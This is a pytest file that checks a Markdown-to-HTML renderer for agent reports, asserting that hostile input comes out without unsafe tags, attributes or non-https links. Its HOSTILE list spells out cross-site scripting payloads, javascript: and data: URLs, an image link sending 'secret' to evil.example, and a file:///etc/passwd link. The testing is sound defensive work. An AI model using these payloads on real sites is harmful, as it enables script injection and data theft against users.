"""An agent's Markdown becomes HTML, and hostile text stays text."""

from html.parser import HTMLParser

import pytest

from advisors.tests.support.cpu_growth import grows_in_proportion
from analysis.results.markdown_html import ALLOWED_TAGS, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.example></iframe>",
    "<style>*{display:none}</style>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext></table></math><img src=1 onerror=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=//evil.example><input name=a></form>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<object data=//evil.example></object>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/)",
    "[x](http://evil.example/)",
    "[x](/auth/logout/)",
    '[x](https://a.example" onmouseover="alert(1))',
    "[x](https://a.example){onclick=alert(1)}",
    "![x](https://evil.example/leak?d=secret)",
    "![x](javascript:alert(1))",
    "![x][1]\n\n[1]: https://evil.example/leak",
    "<javascript:alert(1)>",
    "[a]: javascript:alert(1)\n[a]",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:--" onclick="alert(1):|\n| b |',
    "<!--><script>alert(1)</script>-->",
    "<p style='background:url(//evil.example)'>x</p>",
]


class TagReader(HTMLParser):
    """Collect every tag with its attributes, as a browser reads them."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_text(text):
    for tag, attributes in TagReader(render_markdown(text)).found:
        assert tag in ALLOWED_TAGS
        assert set(attributes) <= {"href", "rel", "class", "start", "scope"}
        assert attributes.get("href", "https://").startswith("https://")


def test_external_links_are_safe():
    assert render_markdown("[x](https://ok.example)") == (
        '<p><a href="https://ok.example" rel="noopener noreferrer nofollow">x</a></p>\n'
    )


def test_the_page_owns_the_first_heading():
    assert [tag for tag, _ in TagReader(render_markdown("# a\n## b\n### c\n###### d")).found] == [
        "h2",
        "h3",
        "h4",
        "h6",
    ]


def test_alignment_is_a_class_not_a_style():
    html = render_markdown("| a | b | c |\n|:-|:-:|-:|\n| 1 | 2 | 3 |")
    assert "style" not in html
    for name in ("left", "center", "right"):
        assert f'<td class="align-{name}">' in html


def test_a_table_scrolls_in_its_own_frame():
    assert render_markdown("| a |\n|---|\n| 1 |").startswith('<div class="table-wrap"><table>')


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        ("~~gone~~", "<p><s>gone</s></p>\n"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
        ("3. c", '<ol start="3">\n<li>c</li>\n</ol>\n'),
        ("**b** *i* `c`", "<p><strong>b</strong> <em>i</em> <code>c</code></p>\n"),
        ("", ""),
    ],
)
def test_all_markdown_of_a_report_is_rendered(text, html):
    assert render_markdown(text) == html


@pytest.mark.parametrize("text", ["[" * 20_000, "*a " * 20_000, "> " * 5_000, "| " * 20_000, "![" * 10_000])
def test_pathological_texts_take_linear_time(text):
    assert grows_in_proportion(render_markdown, text)
